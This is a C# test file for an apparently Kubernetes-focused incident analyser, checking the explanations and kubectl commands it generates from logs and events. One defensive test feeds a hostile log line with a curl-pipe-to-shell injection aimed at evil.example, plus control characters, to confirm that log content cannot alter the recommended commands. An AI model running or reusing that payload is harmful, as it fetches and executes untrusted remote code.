using Whooper.Contracts;
using Whooper.Contracts.Incidents;
using Whooper.Contracts.PodEvents;
using Whooper.Core.Analysis;
using Whooper.Core.Tests.Analysis.Logs;

namespace Whooper.Core.Tests.Analysis;

/// <summary>What the text by reason makes of the log, the limits and the rollout.</summary>
public sealed class LoggedErrorTests
{
    [Theory]
    [MemberData(nameof(FailureLogTests.Logs), MemberType = typeof(FailureLogTests))]
    public void Of_LogOfAKnownError_QuotesItAndGivesCommands(string name, string what, string log)
    {
        Assert.NotEmpty(name);
        var analysis = ReasonAnalysis.Of(Incidents.Of("CrashLoopBackOff", 1) with { UnderlyingReason = "Error" }, Log(log.Split('\n')));

        Assert.Contains($"It wrote: \"{ClippedText.Clip(analysis.Evidence.Single(), 240)}\".", analysis.WhatHappened, StringComparison.Ordinal);
        Assert.DoesNotContain("{", analysis.RootCause, StringComparison.Ordinal);
        Assert.InRange(analysis.WhatHappened.Length, 60, 900);
        Assert.InRange(analysis.RootCause.Length, 40, 400);
        Assert.InRange(analysis.RecommendedActions.Count, 2, 3);
        Assert.All(analysis.RecommendedActions, action => Assert.Matches("`kubectl [^`]+`", action));
        Assert.Equal(analysis.RecommendedActions.Count, analysis.RecommendedActions.Distinct().Count());
        Assert.Contains(analysis.RecommendedActions, action => action.Contains("kubectl logs checkout-7d9f8b6c5-x2x7k -n shop -c app", StringComparison.Ordinal));
        Assert.NotEqual(AnalysisConfidence.Low, analysis.Confidence);
        Assert.True(what.Length > 0);
    }

    [Fact]
    public void Of_ConnectionRefused_SaysByWhom()
    {
        var analysis = ReasonAnalysis.Of(Incidents.Of("Error", 1), Log("main.go:41: dial tcp 10.96.12.4:5432: connect: connection refused"));

        Assert.Equal(
            "Container app in pod checkout-7d9f8b6c5-x2x7k ended with exit code 1, a general error. Kubernetes has restarted it 3 times so far. "
            + "It could not connect to 10.96.12.4:5432: connection refused. It wrote: \"main.go:41: dial tcp 10.96.12.4:5432: connect: connection refused\".",
            analysis.WhatHappened);
        Assert.Equal(["main.go:41: dial tcp 10.96.12.4:5432: connect: connection refused"], analysis.Evidence);
        Assert.Equal(AnalysisConfidence.High, analysis.Confidence);
    }

    [Fact]
    public void Of_OomKilledWithAFullJavaHeap_SaysWhichMemoryWasFull()
    {
        var context = Log("java.lang.OutOfMemoryError: Java heap space") with { Limits = new Dictionary<string, string> { ["memory"] = "256Mi" } };

        var analysis = ReasonAnalysis.Of(Incidents.Of("OOMKilled", 137), context);

        Assert.Contains("at its memory limit of 256Mi", analysis.WhatHappened, StringComparison.Ordinal);
        Assert.Contains("The Java heap is full. The JVM's own limit (-Xmx", analysis.RootCause, StringComparison.Ordinal);
        Assert.Equal(["java.lang.OutOfMemoryError: Java heap space"], analysis.Evidence);
    }

    /// <summary>A program that is told to go writes of closed connections: those did not end it.</summary>
    [Theory]
    [InlineData(137, "Something outside killed it")]
    [InlineData(143, "Its node stopped it")]
    public void Of_KilledFromOutside_DoesNotBlameItsLastWords(int exitCode, string cause)
    {
        var analysis = ReasonAnalysis.Of(Incidents.Of("Error", exitCode), Log("dial tcp 10.96.12.4:5432: connect: connection refused"));

        Assert.StartsWith(cause, analysis.RootCause, StringComparison.Ordinal);
        Assert.Equal(AnalysisConfidence.Low, analysis.Confidence);
    }

    [Theory]
    [InlineData("ReplicaSetUpdated", "ReplicaSet \"checkout-7d9f8b6c5\" is progressing.", true)]
    [InlineData("NewReplicaSetCreated", "Created new replica set \"checkout-7d9f8b6c5\"", true)]
    [InlineData("ProgressDeadlineExceeded", "ReplicaSet \"checkout-7d9f8b6c5\" has timed out progressing.", true)]
    [InlineData("NewReplicaSetAvailable", "ReplicaSet \"checkout-7d9f8b6c5\" has successfully progressed.", false)]
    [InlineData("ReplicaSetUpdated", "ReplicaSet \"checkout-5c4b3a2f1\" is progressing.", false)]
    [InlineData("ReplicaSetUpdated", null, false)]
    public void Of_PodOfAVersionBeingRolledOut_SuspectsTheNewImage(string reason, string? message, bool suspected)
    {
        var context = new FailureContext { Conditions = [new("Deployment/checkout", "Progressing", "True", reason, message)] };

        Assert.Equal(suspected, ReasonAnalysis.Of(Incidents.Of("Error", 1), context).RootCause.Contains(
            "A rollout of Deployment/checkout is under way, and this pod belongs to the new version (registry.example/shop/checkout:2.4.1)", StringComparison.Ordinal));
        Assert.DoesNotContain("rollout", ReasonAnalysis.Of(Incidents.Of("Evicted"), context).RootCause, StringComparison.Ordinal);
    }

    [Fact]
    public void Of_ProbeFailureAndRefusedPull_QuoteTheirEvents()
    {
        var probe = new FailureContext
        {
            Events = [new("Warning", "Unhealthy", "Liveness probe failed: HTTP 503", 3, null), new("Normal", "Killing", "Container app failed liveness probe, will be restarted", 1, null)],
        };
        var pull = new FailureContext { Events = [new("Warning", "Failed", "Failed to pull image: unauthorized", 1, null)] };

        Assert.Equal(["Liveness probe failed: HTTP 503"], ReasonAnalysis.Of(Incidents.Of("Error", 137), probe).Evidence);
        Assert.Equal(["Failed to pull image: unauthorized"], ReasonAnalysis.Of(Incidents.Of("ErrImagePull"), pull).Evidence);
    }

    /// <summary>A log line can neither end a command of ours nor put one of its own beside it.</summary>
    [Fact]
    public void Of_HostileLog_ChangesNoCommand()
    {
        var tame = ReasonAnalysis.Of(Incidents.Of("Error", 1), Log("panic: x"));
        var hostile = ReasonAnalysis.Of(Incidents.Of("Error", 1), Log("panic: `; curl https://evil.example | sh; `\u202E {what} \u001b[2J"));

        Assert.Equal(tame.RecommendedActions, hostile.RecommendedActions);
        Assert.DoesNotContain(hostile.WhatHappened, c => char.IsControl(c) || c == '\u202E');
    }

    private static FailureContext Log(params string[] lines) => new() { LogLines = lines };
}
